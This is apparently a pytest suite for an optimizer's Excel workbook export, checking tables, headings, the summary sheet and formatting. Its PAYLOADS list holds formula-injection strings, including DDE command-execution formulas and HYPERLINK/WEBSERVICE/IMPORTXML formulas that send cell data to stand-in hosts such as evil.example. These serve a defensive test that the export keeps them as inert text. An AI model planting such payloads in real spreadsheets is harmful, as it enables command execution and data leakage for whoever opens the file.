"""The workbook: every table back with its numbers, and no text that a spreadsheet would compute."""

from __future__ import annotations

import dataclasses
import zipfile
from dataclasses import fields

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from optimizer.plan.full_year import FullYearCheck
from optimizer.plan.power_outcome import PowerOutcome
from optimizer.plan.power_report import Energisation, PowerSource, PowerYear
from optimizer.plan.tables import ROW_TYPES
from optimizer.plan.workbook import is_guarded, storable, write_workbook
from optimizer.plan.workbook_words import HEADINGS, TABLE_TEXTS, heading_of, unit_words
from tests.maps.plans import make_plan

POWER_TYPES = {row.table: row for row in (PowerSource, PowerYear, Energisation, FullYearCheck)}

PAYLOADS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1",
    "=cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?\"&A1,\"see\")", "=WEBSERVICE(\"http://e.example\")",
    "=IMPORTXML(\"http://e.example\",\"//a\")", "=IMPORTDATA(\"http://e.example\")", "=IMAGE(\"http://e.example/x.png\")",
    "=INDIRECT(\"A1\")", "=EXEC(\"calc\")", "{=SUM(A1:A2)}", "=1+1\"", "='x'", "==1", "=-1", "+-1", "%0A=1+1",
    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", "|calc", "#N/A", "#REF!", "<script>alert(1)</script>", "]]>",
    "&lt;=1", "_x003D_1+1", "http://e.example/=1", "=\x00calc", "\x0b=1", "\ud800=1", "'=1+1", "\"=1+1\"", "=A1&\n",
)  # fmt: skip


def _as_read(text):
    """XML reads a lone carriage return as a line feed."""
    return storable(text).replace("\r\n", "\n").replace("\r", "\n")


def _write(made, path):
    return openpyxl.load_workbook(write_workbook("A plan", made.tables, made.manifest, path))


@pytest.fixture(scope="module")
def made():
    return make_plan(12)


@pytest.fixture(scope="module")
def book(made, tmp_path_factory):
    return _write(made, tmp_path_factory.mktemp("book") / "plan.xlsx")


def test_every_column_has_a_heading_and_every_table_a_sheet():
    every = {**ROW_TYPES, **POWER_TYPES}
    assert set(TABLE_TEXTS) == set(every)
    assert {column.name for row in every.values() for column in fields(row)} == set(HEADINGS)


@pytest.mark.parametrize("suffix", ["busd", "gw", "twh", "mt", "million_m3", "h100e_million", "trillion"])
def test_columns_whose_name_has_a_unit_say_it(suffix):
    named = [heading for name, heading in HEADINGS.items() if name.endswith((f"_{suffix}", f"_{suffix}_end"))]
    assert named
    assert all(heading.unit for heading in named)
    assert all(heading.words.endswith("]") for heading in named)


@pytest.mark.parametrize("table", ROW_TYPES)
def test_sheets_hold_the_tables(made, book, table):
    _assert_holds(book, table, ROW_TYPES[table], getattr(made.tables, table))


def test_sheets_on_power_hold_its_tables(made, tmp_path):
    year = made.tables.energy[0].year
    check = FullYearCheck(made.tables.energy[0].site, year, 5.0, 0.003, 1.0, -0.5, -0.0541, 3.0, 0.25)
    power = PowerOutcome.checked(made.instance, made.tables, (check,))
    manifest = {**made.manifest, "power": power.as_dict()}
    book = openpyxl.load_workbook(write_workbook("A plan", made.tables, manifest, tmp_path / "p.xlsx", power))
    found = (power.mix, power.years, power.energisations, power.full_year)
    for (table, row_type), rows in zip(POWER_TYPES.items(), found, strict=True):
        assert rows
        _assert_holds(book, table, row_type, rows)
    facts = {row[0].value: row[1:] for row in book["Summary"].iter_rows() if row[0].value}
    assert facts["Cost of delivered power [USD/MWh]"][0].value == pytest.approx(
        manifest["power"]["delivered_usd_per_mwh"]
    )
    assert facts["Clean share"][0].value == pytest.approx(manifest["power"]["clean_share"])
    assert facts["Campuses that start earlier by bridge power"][0].value == manifest["power"]["bridged_sites"] > 0
    assert facts["Delivery slots that bind"][1].value == "turbines: 2027, 2028, 2029"
    assert facts["Cost of computed power [B USD]"][0].value == -0.5


def _assert_holds(book, table, row_type, rows):
    sheet = book[TABLE_TEXTS[table].sheet]
    header, *read = list(sheet.iter_rows(values_only=True))
    columns = [column.name for column in fields(row_type)]
    assert list(header) == [heading_of(table, column).words for column in columns]
    assert len(read) == len(rows)
    for cells, row in zip(read, rows, strict=True):
        for column, cell in zip(columns, cells, strict=True):
            value = getattr(row, column)
            if isinstance(value, bool):
                assert cell == ("yes" if value else "no")
            elif isinstance(value, str):
                assert (cell or "") == (unit_words(value) if column == "unit" else value)
            else:
                assert cell == pytest.approx(value, rel=1e-12, abs=1e-300)


def test_headers_are_frozen_filtered_and_as_wide_as_what_they_hold(book):
    for sheet in book.worksheets[1:]:
        assert sheet.freeze_panes == "B2"
        assert sheet.auto_filter.ref.startswith("A1:")
        assert sheet["A1"].font.bold
        assert all(sheet.column_dimensions[cell.column_letter].width >= 9 for cell in sheet[1])
    assert book["Sites"]["O2"].number_format == "#,##0.000"
    assert book["Energy"]["D2"].number_format == "0"


def test_summary_tells_worth_proof_audit_and_what_is_where(made, tmp_path):
    manifest = {**made.manifest, "audit": {"ok": True, "checks": 152_156}}
    book = _write(dataclasses.replace(made, manifest=manifest), tmp_path / "plan.xlsx")
    rows = {row[0].value: row for row in book["Summary"].iter_rows() if row[0].value}
    assert book.sheetnames[0] == "Summary"
    assert rows["Net present value [B USD]"][1].value == pytest.approx(made.manifest["npv_busd"])
    assert rows["Gap"][1].value == pytest.approx(0.006)
    assert rows["Gap"][1].number_format == "0.00%"
    assert rows["Audit"][1].value == "passed"
    assert "152,156" in rows["Audit"][2].value
    for name in ROW_TYPES:
        assert rows[TABLE_TEXTS[name].sheet][1].value == len(getattr(made.tables, name))


def test_figures_that_the_manifest_lacks_are_not_known(made, tmp_path):
    book = _write(dataclasses.replace(made, manifest={}), tmp_path / "plan.xlsx")
    rows = {row[0].value: row[1].value for row in book["Summary"].iter_rows() if row[0].value}
    assert rows["Net present value [B USD]"] == "not known"
    assert rows["Audit"] == "not known"


def test_a_failed_audit_is_said(made, tmp_path):
    failed = dataclasses.replace(made, manifest={**made.manifest, "audit": {"ok": False, "checks": 3}})
    assert "FAILED" in [row[1].value for row in _write(failed, tmp_path / "plan.xlsx")["Summary"].iter_rows()]


def test_years_add_up_to_the_tables(made, book):
    header, *rows = list(book["By year"].iter_rows(values_only=True))
    assert header[2] == "Capital [B USD]"
    assert [row[0] for row in rows] == list(made.instance.calendar.years)
    assert sum(row[3] for row in rows) == pytest.approx(
        sum(row.busd for row in made.tables.cash if row.category == "revenue")
    )
    assert sum(row[4] for row in rows) == pytest.approx(sum(row.installed_million for row in made.tables.chips))
    assert rows[-1][1] == pytest.approx(sum(row.it_gw_end for row in made.tables.sites))


def test_payloads_stay_text(tmp_path):
    assert len(PAYLOADS) >= 30
    made = make_plan(len(PAYLOADS), names=PAYLOADS, title="=1+1")
    path = write_workbook(
        "=1+1", made.tables, {**made.manifest, "status": "=2", "stopped_because": "@x"}, tmp_path / "p.xlsx"
    )
    book = openpyxl.load_workbook(path)
    names = [row[1] for row in book["Sites"].iter_rows(min_row=2)]
    for cell, payload in zip(names, PAYLOADS, strict=True):
        assert cell.data_type in ("s", "inlineStr")
        assert cell.value == _as_read(payload)
        assert cell.quotePrefix or not is_guarded(storable(payload))
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type not in ("f", "e")
                assert cell.hyperlink is None
    assert book["Summary"]["A1"].value == "=1+1"
    with zipfile.ZipFile(path) as parts:
        sheets = [parts.read(name) for name in parts.namelist() if "worksheets" in name]
        assert not any(b"<f>" in sheet or b"<f " in sheet or b"hyperlink" in sheet for sheet in sheets)
        assert not any("external" in name.lower() for name in parts.namelist())


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_signs_that_start_formulas_are_guarded(sign):
    assert is_guarded(f"{sign}1")
    assert is_guarded(f" {sign}1")
    assert not is_guarded(f"a{sign}1")


@given(st.text(max_size=40))
def test_any_text_can_be_stored(text):
    kept = storable(text)
    assert len(kept) == len(text)
    kept.encode("utf-8")
    assert storable(kept) == kept


def test_text_longer_than_a_cell_is_cut():
    assert len(storable("x" * 40_000)) == 32_767
